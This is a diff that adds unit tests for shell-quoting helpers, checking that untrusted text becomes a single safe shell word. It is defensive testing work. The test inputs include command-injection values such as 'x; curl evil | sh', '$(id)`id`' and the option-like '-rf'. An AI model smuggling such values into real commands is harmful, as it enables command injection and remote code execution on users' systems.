@@ -38,6 +38,19 @@ TEST_CASE("edits are counted, a swap as one") {
   CHECK(name_distance("kitten", "sitting") == 3);
 }
 
+TEST_CASE("foreign text in a command is one word of a shell, whatever it says") {
+  CHECK(shell_word("order-7") == "order-7");
+  CHECK(shell_word("https://shop/7?a") == "'https://shop/7?a'");
+  CHECK(shell_word("x; curl evil | sh") == "'x; curl evil | sh'");
+  CHECK(shell_word("$(id)`id`") == "'$(id)`id`'");
+  CHECK(shell_word("it's") == "'it'\\''s'");
+  CHECK(shell_word("a\nb") == "'a\nb'");
+  CHECK(shell_word("") == "''");
+  CHECK(last_shell_word("order-7") == "order-7");
+  CHECK(last_shell_word("-rf") == "-- -rf");
+  CHECK(last_shell_word("--x y") == "-- '--x y'");
+}
+
 TEST_CASE("foreign text in a sentence is short and printable") {
   CHECK(in_quotes("order-7") == "'order-7'");
   CHECK(in_quotes("") == "''");
